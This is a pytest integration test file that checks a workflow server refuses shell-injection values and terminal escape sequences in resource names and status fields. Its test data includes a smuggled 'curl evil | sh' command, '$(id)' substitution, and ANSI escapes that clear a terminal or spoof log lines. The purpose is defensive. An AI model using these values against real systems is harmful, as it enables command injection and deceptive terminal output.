"""Escape sequences and commands for a shell, in names and in what is said: refused where they come in."""

from typing import Any

import pytest

from tests.integration.conftest import Server
from tests.support.manifests import manifest

CLEAR = "\x1b[2J\x1b]0;owned\x07"
WAIT = {"class": "http", "kwargs": "{}", "key": "0" * 32, "shard": 0}


def workflow(**spec: Any) -> dict[str, Any]:
    tasks = [{"name": "a", "python": "m:f"}]
    return manifest("Workflow", "run", {"image": "i", "tasks": tasks} | spec)


def taskrun() -> dict[str, Any]:
    spec = {"workflow": {"name": "run", "uid": "u"}, "task": "task", "image": "x", "python": "a:b"}
    return manifest("TaskRun", "run-task-12345", spec)


@pytest.mark.parametrize(
    "spec",
    [
        {"triggerPool": "x; curl evil | sh"},
        {"triggerPool": CLEAR},
        {"variablesFrom": "$(id)"},
        {"tasks": [{"name": "a", "trigger": {"class": CLEAR}}]},
        {"tasks": [{"name": "a", "python": "m:f", "triggerPool": "a b"}]},
        {"tasks": [{"name": "a", "python": "m:f", "pod": {"serviceAccountName": "a;b"}}]},
    ],
)
def test_a_name_that_would_stand_in_a_message_or_a_command_is_refused(
    server: Server, namespace: str, spec: dict[str, Any]
) -> None:
    answer = server.create("workflows", namespace, workflow(**spec))
    assert answer.status == 422
    assert "should match" in answer.message


def test_names_that_objects_can_have_are_taken(server: Server, namespace: str) -> None:
    tasks = [
        {"name": "a", "python": "m:f", "pod": {"serviceAccountName": "torpor-task"}, "triggerPool": "gpu-1"},
        {"name": "b", "trigger": {"class": "airflow.providers.standard.triggers.temporal.DateTimeTrigger"}},
        {"name": "c", "trigger": {"class": "any_of"}},
    ]
    server.create("workflows", namespace, workflow(tasks=tasks, variablesFrom="my.config")).expect(201)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("message", CLEAR),
        ("message", "\x9b2J"),
        ("reason", "Error\x1b[2J"),
        ("log", f"a line\n{CLEAR}"),
        ("trigger", WAIT | {"waitsFor": f"http {CLEAR}"}),
        ("trigger", WAIT | {"waitsFor": "http\nrun-other   Succeeded"}),
        ("trigger", WAIT | {"class": CLEAR}),
        ("pod", {"name": CLEAR}),
        (
            "conditions",
            [
                {
                    "type": "Succeeded",
                    "status": "Unknown",
                    "reason": "Error",
                    "message": CLEAR,
                    "lastTransitionTime": "2026-01-01T00:00:00Z",
                }
            ],
        ),
    ],
)
def test_a_status_holds_nothing_that_a_terminal_obeys(server: Server, namespace: str, field: str, value: Any) -> None:
    server.create("taskruns", namespace, taskrun()).expect(201)
    ops = [{"op": "add", "path": f"/status/{field}", "value": value}]
    answer = server.patch_status(namespace, "run-task-12345", ops)
    assert answer.status == 422
    assert "should match" in answer.message


def test_a_message_of_several_lines_in_any_language_is_taken(server: Server, namespace: str) -> None:
    server.create("taskruns", namespace, taskrun()).expect(201)
    ops = [
        {"op": "add", "path": "/status/message", "value": "é 😀 日本\n\tline 2 \\x1b"},
        {"op": "add", "path": "/status/reason", "value": "ImagePullFailed"},
    ]
    server.patch_status(namespace, "run-task-12345", ops).expect(200)
